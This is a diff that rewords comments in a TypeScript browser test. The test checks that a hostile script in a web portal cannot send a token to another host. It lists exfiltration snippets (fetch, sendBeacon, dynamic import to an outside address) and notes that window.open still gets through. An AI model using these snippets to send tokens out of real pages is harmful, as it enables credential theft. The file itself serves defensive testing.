@@ -2,7 +2,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { expect, headingOf, openAs, test } from '../portal.ts'
 
-/** What a script of the page could send a token with, to a host that answers everybody; `out` is an address of it. */
+/** Ways for a script to send a token to a host that answers everybody; `out` is that host's address. */
 const EXITS = {
   fetch: 'return fetch(out)',
   beacon: 'navigator.sendBeacon(out, "token")',
@@ -28,7 +28,7 @@ const EXITS = {
   import: 'return import(out)',
 } as const satisfies Record<string, string>
 
-/** Elements are made as any script may make them; what is refused at once is told by none. */
+/** Creates elements like any script; must not report a synchronous refusal, as none of them does. */
 const PUT = `const put = (name, words) => {
   const element = Object.assign(document.createElement(name), words)
   if (words.as) element.setAttribute('as', words.as)
@@ -36,7 +36,7 @@ const PUT = `const put = (name, words) => {
   return element
 };`
 
-// Each exit is refused, and the browser says so.
+// Each attempt is refused, and the browser logs it.
 test.use({ expectedComplaints: /.*/ })
 
 test('a hostile part sends nothing to another host, whichever way it tries', async ({ page, portal: _ }) => {
@@ -61,7 +61,7 @@ test('a hostile part sends nothing to another host, whichever way it tries', asy
   }
   await page.waitForTimeout(1_000)
   expect([...left]).toEqual([])
-  // The host does answer: what nothing closes (docs/security.md) gets there.
+  // The host does answer: `window.open`, which nothing can prevent (docs/security.md), reaches it.
   await page.evaluate(out => void window.open(out), `http://127.0.0.1:${port}/opened`)
   await expect.poll(() => [...left]).toContain('opened')
   await new Promise(resolve => host.close(resolve).closeAllConnections())
